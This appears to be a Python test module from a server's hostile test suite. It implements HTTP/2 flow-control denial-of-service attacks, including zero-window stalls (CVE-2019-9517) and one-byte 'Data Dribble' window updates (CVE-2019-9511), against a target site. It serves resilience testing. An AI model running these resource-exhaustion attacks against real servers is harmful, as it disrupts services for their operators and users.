"""Responses that the client lets nobody send, or only byte by byte."""

from itertools import count

import trio

from tests.hostile.attacks.http2.connection import (
    HostileConnection,
    attack_over_http2,
    head,
    headers,
    set_values,
    window_update,
)
from tests.hostile.attacks.http2.streams import FEW, LARGEST_WINDOW, STREAMS
from tests.hostile.target import TargetSite
from tests.support.http2_frames import FrameType

INITIAL_WINDOW_SIZE = 4
ENDLESS = head("GET", "/endless")
ALL = range(1, 2 * STREAMS, 2)
DOWNLOADS = b"".join(headers(stream, ENDLESS) for stream in ALL)
SOME = b"".join(headers(stream, ENDLESS) for stream in ALL[:10])


async def closed(target: TargetSite) -> None:
    """CVE-2019-9517: large responses, and windows of 0."""

    async def attack(connection: HostileConnection) -> None:
        await connection.send(SOME)
        await trio.sleep_forever()

    await attack_over_http2(target, attack, settings={INITIAL_WINDOW_SIZE: 0}, connections=FEW)


async def unread(target: TargetSite) -> None:
    """The widest windows, large responses, and nothing is read."""

    async def attack(connection: HostileConnection) -> None:
        await connection.send(window_update(0, LARGEST_WINDOW - 65_535) + SOME)
        await trio.sleep_forever()

    wide = {INITIAL_WINDOW_SIZE: LARGEST_WINDOW}
    await attack_over_http2(target, attack, settings=wide, reads=False, connections=FEW)


async def one_byte_at_a_time(target: TargetSite) -> None:
    """CVE-2019-9511 (Data Dribble): each byte takes a frame."""

    async def attack(connection: HostileConnection) -> None:
        await connection.send(DOWNLOADS)
        while True:
            type_, _, stream = await connection.receive()
            if type_ == FrameType.DATA:
                await connection.send(window_update(stream, 1))

    await attack_over_http2(
        target, attack, settings={INITIAL_WINDOW_SIZE: 1}, reads=False, connections=FEW
    )


async def one_byte_of_the_connection(target: TargetSite) -> None:
    """A hundred streams wait for a byte of the window that they share."""

    async def attack(connection: HostileConnection) -> None:
        await connection.send(DOWNLOADS)
        while True:
            await trio.sleep(0.01)
            await connection.send(window_update(0, 1))

    wide = {INITIAL_WINDOW_SIZE: LARGEST_WINDOW}
    await attack_over_http2(target, attack, settings=wide, connections=FEW)


async def one_byte_more_for_all(target: TargetSite) -> None:
    """SETTINGS that allow one byte more on each of a hundred streams."""

    async def attack(connection: HostileConnection) -> None:
        await connection.send(DOWNLOADS)
        for size in count(1):
            await connection.send(set_values((INITIAL_WINDOW_SIZE, size)))
            await trio.sleep(0.01)

    await attack_over_http2(target, attack, settings={INITIAL_WINDOW_SIZE: 0}, connections=FEW)
